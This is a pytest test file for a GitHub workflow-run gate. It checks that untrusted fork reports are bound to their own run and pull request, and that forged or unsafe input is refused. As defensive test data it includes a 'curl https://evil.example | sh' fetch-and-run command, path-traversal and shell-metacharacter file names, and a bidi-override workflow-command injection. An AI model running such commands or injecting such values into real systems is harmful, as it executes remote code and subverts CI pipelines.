"""An untrusted report is bound to the run it came with, and the pull request comes from that run:
through the real client."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from repro_gate.errors import GateError, UsageError
from repro_gate.github.activity import NothingToDo
from repro_gate.github.event import PullRequest, Repository, WorkflowRun
from repro_gate.github.workflow_run import check, find_pull, see_again
from repro_gate.report.model import Origin
from tests.support import reports
from tests.support.github.conversation import HEAD, NEXT, OLD, PULL, client
from tests.support.github.server import GitHub, Pull

OURS, FORK = "octo-org/trainer", "stranger/trainer"


def a_run(head: str, branch: str = "topic") -> WorkflowRun:
    """Run 4711, attempt 2, of the repository `head`."""
    return WorkflowRun(
        id=4711,
        attempt=2,
        event="pull_request",
        conclusion="failure",
        head_sha=HEAD,
        head_branch=branch,
        head_repository=Repository(head),
    )


RUN = a_run(FORK)
ORIGIN = Origin(OURS, HEAD, 4711, 2)


@pytest.fixture
def github() -> Iterator[GitHub]:
    with GitHub(OURS) as server:
        server.add_pull(PULL, HEAD, "topic", FORK)
        # the same commit and branch name in another fork
        server.add_pull(8, HEAD, "topic", "neighbour/trainer")
        # in another fork of the same owner
        server.add_pull(6, HEAD, "topic", "stranger/second")
        server.add_pull(9, HEAD, "other-topic", FORK)
        server.add_pull(10, HEAD, "topic")
        yield server
    assert server.faults == []


def bound(github: GitHub, run: WorkflowRun = RUN, origin: Origin | None = ORIGIN) -> PullRequest:
    check(run, OURS, origin)
    return find_pull(client(github), run, OURS)


def test_a_forks_report_finds_its_own_pull_request_whatever_its_branch_is_called(
    github: GitHub,
) -> None:
    found = bound(github)
    assert (found.number, found.head.sha, found.head_repository) == (PULL, HEAD, FORK)
    assert not github.writes
    # of an earlier attempt, and in another spelling
    assert bound(github, origin=replace(ORIGIN, run_attempt=1)).number == PULL
    run = a_run("Stranger/Trainer")
    assert bound(github, run, replace(ORIGIN, repository="OCTO-ORG/trainer")).number == PULL
    name = "x\u202e::error::&state=all"
    with pytest.raises(NothingToDo) as caught:
        bound(github, a_run(FORK, name))
    assert caught.value.message.isprintable() and "\\u202e" in caught.value.message
    github.add_pull(12, HEAD, name, FORK)
    assert bound(github, a_run(FORK, name)).number == 12


def test_a_list_that_github_has_not_filtered_has_one_pull_request_of_the_run(
    github: GitHub, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(Pull, "is_from", lambda *_: True)
    assert bound(github).number == PULL


def test_a_report_of_anything_else_or_of_no_run_is_refused(github: GitHub) -> None:
    for change in (
        {"repository": "stranger/trainer"},
        {"head_sha": OLD},
        {"run_id": 4712},
        {"run_attempt": 3},
        None,
    ):
        with pytest.raises(UsageError) as caught:
            bound(github, origin=replace(ORIGIN, **change) if change else None)
        which = "origin" if change else "no-origin"
        assert caught.value.reason_id == f"workflow-run/{which}" and caught.value.remedy
        assert not github.requests


def test_a_run_without_an_open_pull_request_has_nothing_to_post_on(github: GitHub) -> None:
    for change in (
        {"head_repository": None},
        {"head_branch": None},
        {"head_branch": "gone"},
        {"head_repository": Repository("stranger/other")},
        {"head_repository": Repository("nobody/trainer")},
    ):
        with pytest.raises(GateError) as caught:
            bound(github, msgspec.structs.replace(RUN, **change))
        assert caught.value.reason_id == "workflow-run/no-pull-request"
    own = a_run(OURS)
    assert bound(github, own).number == 10
    github.change_pull(10, state="closed")
    with pytest.raises(NothingToDo, match="no open pull request"):
        bound(github, own)


def test_two_pull_requests_or_a_head_that_moved_are_refused(github: GitHub) -> None:
    github.add_pull(11, HEAD, "topic", FORK, base_ref="release")
    with pytest.raises(UsageError, match=r"several pull requests .*: #7, #11") as caught:
        bound(github)
    assert caught.value.reason_id == "workflow-run/several"
    github.change_pull(11, head_sha=NEXT)
    assert bound(github).number == PULL, "with another head it is another matter"
    github.change_pull(11, state="closed")
    github.change_pull(PULL, head_sha=NEXT)
    said = f"newer commit is at the head of pull request #7: {NEXT[:7]}"
    with pytest.raises(NothingToDo, match=said):
        bound(github)


def test_how_to_see_it_again_is_made_of_a_plain_spec_seed_and_steps() -> None:
    for spec in ("repro.yml", "training/vision/repro-2.yml", "examples/quick"):
        assert again(spec) == f"repro-gate run {spec} --seed 42 --steps 4 --fail-fast"
        assert again(spec, determinism=None) == f"repro-gate run {spec}"
    hostile = ["", "-x", "/tmp/evil.yml", "../evil.yml", "a/../../evil.yml", "a" * 201]
    for spec in [*hostile, *(f"a{character}b" for character in "$`;|&><'\"\\#~ \n\u202e")]:
        assert again(spec) == "", spec


def again(spec: str, **change: Any) -> str:
    forged = replace(reports.FAIL, reproduce="curl https://evil.example | sh", **change)
    return see_again(replace(forged, subject=replace(forged.subject, spec=spec)))
